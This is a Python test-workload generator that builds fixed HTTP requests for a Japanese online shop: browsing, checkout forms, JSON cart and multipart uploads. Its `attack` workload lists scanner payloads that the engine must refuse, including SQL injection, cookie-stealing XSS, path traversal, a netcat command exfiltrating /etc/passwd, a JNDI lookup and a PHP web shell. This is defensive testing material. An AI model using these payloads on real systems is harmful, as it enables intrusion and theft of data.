"""Requests of a shop, as bytes. Each workload is a list of whole HTTP/1.1 requests that the load
generator sends in turn; nothing is random, so two machines send the same. All but `attack` are
harmless and must pass."""
import json
from urllib.parse import quote, urlencode

AGENT = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/120.0.0.0 Safari/537.36")
COOKIES = ("session=4f1c9a7e52d84b60; cart=01JDC3M7R8; lang=ja; seen=tea-017,tea-004,wagashi-112; "
           "consent=2026-10-02; theme=light")
SEARCHES = ("抹茶", "宇治 玉露 100g", "和紙 便箋", "teapot cast iron", "ﾉｰﾄ Ａ５", "のし紙 内祝い")


def request(method, target, body=b"", content_type=None, **headers):
    """One request as a browser sends it."""
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: shop.example.jp",
             "User-Agent: " + AGENT,
             "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
             "Accept-Language: ja,en-US;q=0.8,en;q=0.6", "Accept-Encoding: gzip, deflate, br",
             "Referer: https://shop.example.jp/s/chaho/c/tea?page=2", "Cookie: " + COOKIES,
             "Sec-Fetch-Dest: document", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Site: same-origin",
             "Upgrade-Insecure-Requests: 1"]
    lines += ["%s: %s" % (name.replace("_", "-"), value) for name, value in headers.items()]
    if content_type:
        lines += ["Origin: https://shop.example.jp", "Content-Type: " + content_type,
                  "Content-Length: %d" % len(body)]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def tiny():
    """The least that a client sends: what the engine costs where there is nothing to see."""
    return [b"GET / HTTP/1.1\r\nHost: shop.example.jp\r\nUser-Agent: health/1.0\r\n"
            b"Accept: */*\r\n\r\n"]


def browse():
    """Pages and searches of a visitor."""
    targets = ["/", "/s/chaho/", "/s/chaho/c/sencha?sort=price&page=3", "/s/chaho/p/tea-017",
               "/s/bunguya/p/washi-204?from=recommended"]
    targets += ["/s/chaho/search?q=%s&sort=new&page=1" % quote(word) for word in SEARCHES]
    return [request("GET", target) for target in targets]


def checkout():
    """Addresses and orders: Japanese forms of one to two kilobytes."""
    forms = []
    for name, kana, town in (("山田 太郎", "ヤマダ タロウ", "京都市中京区寺町通御池上る"),
                             ("佐藤 花子", "サトウ ハナコ", "千代田区丸の内１−２−３ 東ビル 4F"),
                             ("O'Brien Seán", "オブライエン ショーン", "横浜市中区山下町 279")):
        forms.append(urlencode([
            ("token", "9f8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d"), ("name", name), ("kana", kana),
            ("postal", "604-8091"), ("prefecture", "京都府"), ("address", town),
            ("phone", "075-123-4567"), ("email", "hanako.sato+shop@example.jp"),
            ("delivery", "2026-12-01"), ("slot", "14-16"), ("payment", "bank"),
            ("gift", "のし：御歳暮　名入れ：山田"), ("items[0][id]", "tea-017"),
            ("items[0][n]", "2"), ("items[1][id]", "wagashi-112"), ("items[1][n]", "1"),
            ("note", "不在の場合は宅配ボックスにお願いします。インターホンが鳴らないことがあります。"),
        ]).encode())
    return [request("POST", "/s/chaho/checkout", form, "application/x-www-form-urlencoded")
            for form in forms]


def json_api():
    """A cart kept by script: JSON of about 1.5 KB."""
    bodies = []
    for turn in range(3):
        items = [{"id": "tea-%03d" % (n + turn), "quantity": 1 + n % 3, "price": 1080 + 90 * n,
                  "name": "宇治煎茶「朝霧」%dg" % (50 * (n + 1)), "gift": n % 2 == 0}
                 for n in range(8)]
        bodies.append(json.dumps({"cart": "01JDC3M7R8", "items": items, "coupon": None,
                                  "note": "包装は簡易でかまいません", "total": 12345.0},
                                 ensure_ascii=False).encode())
    return [request("POST", "/api/cart", body, "application/json",
                    X_Requested_With="XMLHttpRequest") for body in bodies]


def picture(size):
    """Bytes that no rule can take for text, the same everywhere: a linear congruence."""
    value, out = 20261123, bytearray(b"\x89PNG\r\n\x1a\n")
    while len(out) < size:
        value = (value * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(value >> 16 & 0xFF)
    return bytes(out)


def upload():
    """A merchant's product with a picture of 60 KB, as multipart."""
    edge = "----form7MA4YWxkTrZu0gW"
    body = b""
    for name, value in (("title", "手漉き和紙の便箋"), ("price", "1320"), ("stock", "24"),
                        ("text", "楮を使い一枚ずつ漉いた便箋です。万年筆でもにじみません。")):
        body += ('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
                 % (edge, name, value)).encode()
    body += ('--%s\r\nContent-Disposition: form-data; name="picture"; filename="washi.png"\r\n'
             'Content-Type: image/png\r\n\r\n' % edge).encode()
    body += picture(60000) + ("\r\n--%s--\r\n" % edge).encode()
    return [request("POST", "/desk/product", body, "multipart/form-data; boundary=" + edge)]


def attack():
    """What a scanner tries. Must be refused."""
    targets = ["/s/chaho/search?q=" + quote(text) for text in (
        "1' UNION SELECT password,2,3 FROM users-- -", "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd", ";cat /etc/passwd|nc 10.0.0.1 99", "${jndi:ldap://10.0.0.1/a}",
        "<?php system($_GET['c']); ?>")]
    form = urlencode([("name", "admin' OR '1'='1' -- "), ("email", "a@example.jp")]).encode()
    return [request("GET", target) for target in targets] + [
        request("POST", "/contact", form, "application/x-www-form-urlencoded")]


WORKLOADS = {"tiny": tiny, "browse": browse, "checkout": checkout, "json": json_api,
             "upload": upload, "attack": attack}
